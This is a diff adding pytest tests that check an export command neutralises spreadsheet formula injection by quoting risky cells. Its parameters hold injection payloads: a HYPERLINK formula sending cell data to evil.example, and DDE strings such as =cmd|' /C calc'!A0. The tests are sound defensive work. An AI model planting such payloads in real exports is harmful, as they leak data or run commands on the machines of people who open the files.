@@ -5,13 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import subprocess
 
 import pytest
+from sqlalchemy import update
 
 import bot.services.export as export
 from bot.cli import main
 from storage import repositories
-from storage.models import Objective, Team, TeamMember
+from storage.models import Objective, Team, TeamMember, Update
 
 
 @pytest.fixture
@@ -88,3 +90,66 @@ def test_bad_input_is_one_line_and_exit_2(workspace, capsys, args, says):
     assert main(["export", "--team-id", workspace, *args]) == 2
     captured = capsys.readouterr()
     assert captured.out == "" and says in captured.err and captured.err.count("\n") == 1
+
+
+def _stored(runtime, workspace: str, text: str, week: str = "2026-W43") -> None:
+    """Store an update of marketing's with exactly `text`, as an older version or another path may have left it."""
+    recorded = runtime.services.checkins.record(workspace, "U0MEMB01", "placeholder", week=week, objectives=[])
+    with runtime.services.sessions.begin() as session:
+        session.execute(update(Update).where(Update.id == recorded.update_id).values(text=text))
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+2', '\r=1+2',
+                                  "\n=1+2"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(workspace, runtime, capsys, text):
+    _stored(runtime, workspace, text)
+    assert main(["export", "--team-id", workspace, "--since", "2026-W43"]) == 0
+    out = capsys.readouterr().out
+    [row] = list(csv.reader(io.StringIO(out)))[1:]
+    assert row[3] == "'" + text
+    # Quoted too: a spreadsheet splitting on ';' or ',' cannot start a new cell inside it.
+    assert '"\'' + text[:1] in out
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("Booked 6 discovery calls = 2 deals", "Booked 6 discovery calls = 2 deals"),
+    # OWASP makes no exception for a number: a leading minus is how a formula like -2+3+cmd|... starts.
+    ("-5% churn after the renewal push", "'-5% churn after the renewal push"),
+])
+def test_ordinary_text_is_left_alone_and_a_leading_minus_is_quoted_too(workspace, runtime, capsys, text, cell):
+    _stored(runtime, workspace, text)
+    assert main(["export", "--team-id", workspace, "--since", "2026-W43"]) == 0
+    [row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
+    assert row[3] == cell
+
+
+def test_a_team_named_like_a_formula_is_quoted_too(workspace, runtime, capsys):
+    with runtime.services.sessions.begin() as session:
+        session.execute(update(Team).where(Team.name == "marketing").values(name="=cmd|' /C calc'!A0"))
+    assert main(["export", "--team-id", workspace, "--until", "2026-W40"]) == 0
+    [row] = list(csv.reader(io.StringIO(capsys.readouterr().out)))[1:]
+    assert row[1] == "'=cmd|' /C calc'!A0" and row[6] == "sales"
+
+
+def test_jsonl_keeps_the_text_as_stored(workspace, runtime, capsys):
+    text = '=HYPERLINK("http://evil.example/","click")'
+    _stored(runtime, workspace, text)
+    assert main(["export", "--team-id", workspace, "--since", "2026-W43", "--format", "jsonl"]) == 0
+    [line] = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
+    assert line["text"] == text
+
+
+def test_export_into_a_reader_that_stops_early_exits_quietly(workspace, runtime, tmp_path, alignbot_argv):
+    for week in range(1, 53):  # far more than a pipe holds
+        runtime.services.checkins.record(workspace, "U0MEMB01", f"Week {week}: " + "webinar follow-ups " * 200,
+                                         week=f"2025-W{week:02d}", objectives=[])
+    process = subprocess.Popen(alignbot_argv("export", "--team-id", workspace), cwd=tmp_path,
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    first = process.stdout.readline()
+    process.stdout.close()
+    err = process.stderr.read().decode()
+    process.stderr.close()
+    assert first.startswith(b'"week","team"')
+    # What a shell reports for a command its reader stopped (128 + SIGPIPE), as for `yes | head -n 1`.
+    assert (process.wait(timeout=60), err) == (141, "")
